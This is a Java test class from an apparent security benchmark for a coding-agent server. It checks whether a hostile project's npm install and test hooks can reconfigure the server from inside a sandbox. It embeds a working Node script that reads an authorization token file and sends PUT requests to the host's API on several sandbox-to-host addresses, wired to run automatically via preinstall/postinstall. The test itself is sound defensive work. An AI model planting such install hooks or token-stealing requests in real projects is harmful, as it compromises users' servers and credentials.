package dev.codeagent.bench.escapes.server;

import dev.codeagent.bench.harness.FakeModelProcess;
import dev.codeagent.bench.harness.GitRepository;
import dev.codeagent.bench.harness.ModelScripts;
import dev.codeagent.bench.harness.ModelScripts.Pacing;
import dev.codeagent.bench.harness.ModelScripts.ScriptedCall;
import dev.codeagent.bench.harness.ModelScripts.ScriptedTurn;
import dev.codeagent.bench.harness.RawHttpRequest;
import dev.codeagent.bench.harness.RestClient;
import dev.codeagent.bench.harness.ServerProcess;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** Scripts of a project, which run with network while the project is prepared, use the server as its user. */
final class PreparationAttempts {
    private static final Map<String, String> WITHOUT_TOKENS_AND_SANDBOX =
            Map.of("CODEAGENT_SECURITY_LOCALTOKEN", "false", "CODEAGENT_SANDBOX_ENABLED", "false");
    private static final int MAX_POLLS = 200;
    private static final long POLL_MILLIS = 500;

    /** Adds a provider, on each address under which a sandbox may reach its host. */
    private static final String SCRIPT = """
            const fs = require('fs');
            const hosts = ['127.0.0.1', 'localhost', 'host.docker.internal', '172.17.0.1'];
            let token = '';
            for (const file of ['../../authorization', '../../../authorization', '%2$s/authorization']) {
              try { token = fs.readFileSync(file, 'utf8').trim().replace('Authorization: ', ''); } catch (e) {}
            }
            Promise.all(hosts.map(host => fetch('http://' + host + ':%1$d/api/v1/providers/marked', {
              method: 'PUT',
              headers: {'Content-Type': 'application/json', ...(token && {'Authorization': token})},
              body: JSON.stringify({baseUrl: 'http://127.0.0.1:9/v1', wire: 'openai'}),
            }).catch(e => e))).then(() => process.exit(0));
            """;

    private PreparationAttempts() {}

    static List<ServerAttempt> all() {
        return List.of(ServerAttempt.of(
                "identity/preparation",
                "a script of the project changes the server's providers while the project is prepared",
                target -> runScripts(target, target.server()),
                target -> runScripts(target, target.server(WITHOUT_TOKENS_AND_SANDBOX))));
    }

    private static Optional<String> runScripts(ServerTarget target, ServerProcess server) throws Exception {
        Path folder = target.newDirectory("preparation");
        RestClient client = server.restClient();
        try (var model = FakeModelProcess.start(folder, script())) {
            client.registerProvider("scripted", model.url(), "any");
            GitRepository repository = GitRepository.create(folder.resolve("project"));
            write(repository.path(), server);
            repository.git("add", "-A");
            repository.git("commit", "-qm", "Add scripts");
            String run = client.startRun(client.registerProject(repository.path()), "/test", "Run it.", "scripted");
            for (int i = 0; i < MAX_POLLS && !isFinished(client.getRun(run)); i++) {
                Thread.sleep(POLL_MILLIS);
            }
            if (client.listEvents(run).stream()
                    .noneMatch(event -> event.getString("type").startsWith("tests."))) {
                throw new IllegalStateException("the scripts of the project did not run: " + client.listEvents(run));
            }
        }
        int status = RawHttpRequest.get(
                        "/api/v1/providers/marked",
                        server.address()
                                .authorization()
                                .map(a -> "Authorization: " + a)
                                .orElse("X-Nothing: 1"))
                .send(server.port())
                .status();
        return status == 200 ? Optional.of("the script added a provider") : Optional.empty();
    }

    private static boolean isFinished(JsonObject run) {
        return !List.of("queued", "running").contains(run.getString("state"));
    }

    private static void write(Path project, ServerProcess server) throws IOException {
        Files.writeString(project.resolve("attack.js"), SCRIPT.formatted(server.port(), server.dataDirectory()));
        Files.writeString(project.resolve("package.json"), """
                {"name": "hostile", "version": "1.0.0",
                 "scripts": {"preinstall": "node attack.js", "postinstall": "node attack.js", "test": "node attack.js && node --test"}}
                """);
        Files.writeString(project.resolve("package-lock.json"), """
                {"name": "hostile", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
                 "packages": {"": {"name": "hostile", "version": "1.0.0", "hasInstallScript": true}}}
                """);
        Files.writeString(project.resolve("a.test.js"), "require('node:test')('passes', () => {});\n");
    }

    private static JsonObject script() {
        var pacing = new Pacing(200, 0);
        var write = new ScriptedTurn(
                "I write.", pacing, List.of(ScriptedCall.of("write_file", "path", "note.txt", "content", "x\n")));
        var end = new ScriptedTurn("Done.", pacing, List.of());
        return ModelScripts.script(Map.of("*", ModelScripts.scenario(Map.of("testing", List.of(write, end)), false)));
    }
}
